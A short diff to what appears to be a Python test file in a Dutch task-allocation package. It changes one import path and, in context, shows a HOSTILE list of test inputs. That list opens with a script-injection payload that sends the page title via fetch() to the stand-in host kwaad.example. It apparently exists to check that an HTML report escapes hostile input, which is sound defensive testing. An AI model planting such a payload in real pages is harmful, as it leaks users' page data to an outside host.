@@ -21,7 +21,7 @@ from taaktoedeling.dossier.verify_file import verify_file
 from taaktoedeling.model.casus import Casus
 from taaktoedeling.model.kader import Kader
 from taaktoedeling.reading.casus import casus_to_plain, load_casus, parse_casus, shipped_case
-from taaktoedeling.report.dossier_html import NO_SEAL
+from taaktoedeling.report.dossier.html import NO_SEAL
 
 HOSTILE = (
     "<script>fetch('http://kwaad.example/'+document.title);alert(1)</script>",
